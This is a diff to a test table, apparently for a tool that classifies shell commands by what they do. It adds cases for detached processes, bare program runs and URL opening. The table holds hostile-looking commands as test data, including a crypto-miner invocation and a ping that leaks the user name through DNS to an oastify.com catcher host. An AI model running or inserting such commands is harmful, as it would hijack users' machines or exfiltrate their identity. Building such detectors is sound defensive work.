@@ -143,6 +143,16 @@ const CASES: readonly [string, string, string][] = [
   ['mining', './xmrig -o pool.invalid:3333', 'mine-currency'],
   ['here-document', 'sh <<EOF\nwhoami\nEOF', 'read-user-name'],
   ['conditional', 'if [ -f x ]; then node a.js; fi', 'run-own-file | file:a.js'],
+  ['kept running', 'forever start src/x.js', 'run-own-file detached | file:src/x.js'],
+  [
+    'kept running by a tool of the registry',
+    'npx pm2 start x.js --name y',
+    'run-own-file detached | file:x.js',
+  ],
+  ['a daemon without a script', 'pm2 save', 'run-program program:tool'],
+  ['a program without a folder', 'helper.exe /s', 'run-program program:other | bare:helper.exe'],
+  ['a page opened', 'start https://page.invalid/x', 'run-program program:desktop to:other'],
+  ['a name with a variable looked up', 'ping -c 1 a-$USER.x.oastify.com', 'dns-query to:catcher'],
   ['nothing of its own', 'echo hello && exit 0', ''],
 ];
 
